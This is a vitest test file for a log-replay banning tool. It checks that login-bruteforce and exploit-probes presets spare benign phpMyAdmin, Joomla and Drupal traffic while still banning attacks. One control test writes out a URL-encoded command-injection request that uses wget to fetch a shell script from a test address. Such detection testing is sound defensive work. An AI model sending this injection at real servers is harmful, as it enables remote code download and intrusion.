/**
 * Issue 13 (and 9), round 5: benign clients that no preset may ban, replayed with every preset on
 * (replay --all-rules), each next to a control that shows the preset concerned still bans the attack
 * it is about. Test addresses only (198.18.0.0/15).
 */
import { describe, expect, it } from 'vitest';
import { bansOf, CHROME, FIREFOX, line, replayAll, T0 } from '../presets-variants/harness.js';

const rulesBanning = async (lines: string[], ip: string): Promise<string[]> => (await replayAll(lines)).bans.filter((b) => b.ip === ip).map((b) => b.rule);

describe('login-bruteforce: the admin screens of phpMyAdmin 5 and Joomla are not logins', () => {
  // phpMyAdmin 5 routes every screen through index.php?route=…, and its navigation, SQL box and table
  // screens are POSTs answered 200: a DBA at work made five "failed logins" a minute.
  it('bans nobody: a DBA working in phpMyAdmin 5 for ten minutes', async () => {
    const ip = '198.18.150.1';
    const routes = ['/navigation&ajax_request=1', '/sql&db=shop&table=orders', '/table/structure&db=shop&table=orders', '/database/structure&db=shop', '/sql&ajax_request=true', '/table/sql&db=shop'];
    const lines = [line(ip, T0, 'GET /phpmyadmin/ HTTP/1.1', 200, FIREFOX), line(ip, T0 + 5, 'POST /phpmyadmin/index.php?route=/ HTTP/1.1', 302, FIREFOX)];
    for (let i = 0; i < 40; i++) {
      const route = routes[i % routes.length]!.replace('/', '%2F');
      lines.push(line(ip, T0 + 10 + i * 15, `POST /phpmyadmin/index.php?route=${i % 2 ? route : routes[i % routes.length]} HTTP/1.1`, 200, FIREFOX, 'https://db.example.test/phpmyadmin/index.php?route=/sql', 4096));
    }
    expect(bansOf(await replayAll(lines))).toEqual([]);
  });

  it('control: still bans guessing at the phpMyAdmin 5 login (index.php?route=/) and 4.x (index.php)', async () => {
    const five = Array.from({ length: 5 }, (_, i) => line('198.19.150.1', T0 + i * 10, 'POST /phpmyadmin/index.php?route=/ HTTP/1.1', 200));
    expect(await rulesBanning(five, '198.19.150.1')).toContain('login-bruteforce');
    const four = Array.from({ length: 5 }, (_, i) => line('198.19.150.2', T0 + i * 10, 'POST /phpmyadmin/index.php HTTP/1.1', 200));
    expect(await rulesBanning(four, '198.19.150.2')).toContain('login-bruteforce');
  });

  // Joomla 4's media manager uploads with POST …?option=com_media&format=json…, answered 200.
  it('bans nobody: a Joomla editor uploading eight images and saving an article', async () => {
    const ip = '198.18.150.2';
    const ref = 'https://example.test/administrator/index.php?option=com_media';
    const lines = [line(ip, T0, 'POST /administrator/index.php HTTP/1.1', 303, CHROME)];
    for (let i = 0; i < 8; i++) {
      lines.push(line(ip, T0 + 20 + i * 6, 'POST /administrator/index.php?option=com_media&format=json&mediatypes=0,1,2,3&task=api.files&path=local-images:/ HTTP/1.1', 200, CHROME, ref, 900));
    }
    lines.push(line(ip, T0 + 80, 'POST /administrator/index.php?option=com_ajax&group=system&plugin=stats&format=raw HTTP/1.1', 200, CHROME, ref, 20));
    lines.push(line(ip, T0 + 90, 'POST /administrator/index.php?option=com_content&layout=edit&id=12 HTTP/1.1', 303, CHROME, ref, 0));
    expect(bansOf(await replayAll(lines))).toEqual([]);
  });

  it('control: still bans guessing at the Joomla administrator login', async () => {
    const lines = Array.from({ length: 5 }, (_, i) => line('198.19.150.3', T0 + i * 10, `POST /administrator/${i % 2 ? 'index.php' : ''} HTTP/1.1`, 200));
    expect(await rulesBanning(lines, '198.19.150.3')).toContain('login-bruteforce');
  });
});

describe('login-bruteforce: a decoupled Drupal front end logging its users in (JSON login, 200)', () => {
  // The front end's server calls Drupal's JSON login for every visitor who signs in, from its own
  // address: each success (200) was counted as a failed form login.
  it('bans nobody: eight sign-ins in four minutes, one mistyped', async () => {
    const ip = '198.18.152.1';
    const lines = Array.from({ length: 8 }, (_, i) => line(ip, T0 + i * 30, 'POST /user/login?_format=json HTTP/1.1', i === 3 ? 400 : 200, 'node-fetch/3.3.2', '-', 300));
    expect(bansOf(await replayAll(lines))).toEqual([]);
  });
});

describe('exploit-probes: searches and pages that look like payloads but are not (one request would ban)', () => {
  const sessions: Record<string, string[]> = {
    // A pasted health check or a local command with a loopback or 10.x address: no dropper fetches from there.
    'a developer searching shell snippets with local addresses': [
      'GET /search?q=%24%28curl+http%3A%2F%2F127.0.0.1%3A8080%2Fhealth%29+in+a+script HTTP/1.1',
      'GET /search?q=docker+exec+app+sh+-c+%22sleep+1%3B+wget+http%3A%2F%2F10.0.0.5%2Fstatus%22 HTTP/1.1',
      'GET /search?q=cron+%7C+curl+-s+http%3A%2F%2F127.0.0.1%2Fcron.php HTTP/1.1',
    ],
    // Drupal's own file widget posts element_parents without any #value.
    'a Drupal editor uploading images through the file widget': Array.from(
      { length: 6 },
      (_, i) => `POST /file/ajax/field_image/widget/form-x${i}?element_parents=field_image/widget/${i}&ajax_form=1&_wrapper_format=drupal_ajax HTTP/1.1`,
    ),
    // A page's script building a URL from an unevaluated template literal.
    'a browser asking for a broken template-literal URL': ['GET /assets/$%7Bnew%20Date().getTime()%7D.js HTTP/1.1', 'GET /assets/${img}.png HTTP/1.1'],
    'a reader of PHP documentation searching stream wrappers': [
      'GET /search?q=data%3A%2F%2Ftext%2Fplain+php+wrapper HTTP/1.1',
      'GET /search?q=expect%3A%2F%2F+php+wrapper HTTP/1.1',
      'GET /search?q=php%3A%2F%2Finput+example HTTP/1.1',
    ],
  };
  for (const [name, requests] of Object.entries(sessions)) {
    it(`bans nobody: ${name}`, async () => {
      const lines = requests.map((r, i) => line('198.18.151.1', T0 + i * 40, r, r.startsWith('GET /assets/') ? 404 : 200, CHROME, 'https://example.test/'));
      const report = await replayAll(lines);
      expect(report.skipped).toBe(0);
      expect(bansOf(report)).toEqual([]);
    });
  }

  it('control: a dropper fetching from a public address is still banned at once', async () => {
    const lines = [line('198.19.151.1', T0, 'GET /cgi-bin/x.cgi?ip=1%3Bwget+http%3A%2F%2F198.18.9.9%2Fm.sh HTTP/1.1', 404)];
    expect(await rulesBanning(lines, '198.19.151.1')).toContain('exploit-probes');
  });
});
